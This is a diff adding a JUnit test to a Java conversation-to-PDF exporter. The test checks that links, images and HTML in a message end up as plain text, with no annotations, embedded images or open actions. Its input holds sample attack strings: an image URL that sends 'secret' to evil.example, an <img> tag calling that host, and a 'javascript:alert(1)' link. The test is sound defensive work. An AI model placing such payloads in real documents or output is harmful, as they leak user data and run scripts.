@@ -18,6 +18,7 @@ import java.util.Optional;
 import org.apache.pdfbox.Loader;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.text.PDFTextStripper;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 
 class ConversationPdfTest {
@@ -72,6 +73,23 @@ class ConversationPdfTest {
                         "Trẻ em nên dùng liều nào?",
                         "Qual é a dose para crianças?",
                         "2026-11-21T12:00:00Z");
+    }
+
+    @Test
+    @Tag("case-33")
+    void whatATextLinksToOrShowsShouldBeWordsAlone() throws IOException {
+        byte[] pdf = new ConversationPdf()
+                .pdf(conversation("![p](http://evil.example/p.png?q=secret) [x][r] <img src='http://evil.example/i'>\n"
+                        + "[r]: javascript:alert(1)\nhttp://evil.example/bare"));
+
+        try (PDDocument document = Loader.loadPDF(pdf)) {
+            assertThat(document.getDocumentCatalog().getOpenAction()).isNull();
+            assertThat(document.getPages()).allSatisfy(page -> {
+                assertThat(page.getAnnotations()).isEmpty();
+                assertThat(page.getResources().getXObjectNames()).isEmpty();
+            });
+            assertThat(new PDFTextStripper().getText(document)).contains("javascript:alert(1)");
+        }
     }
 
     @Test
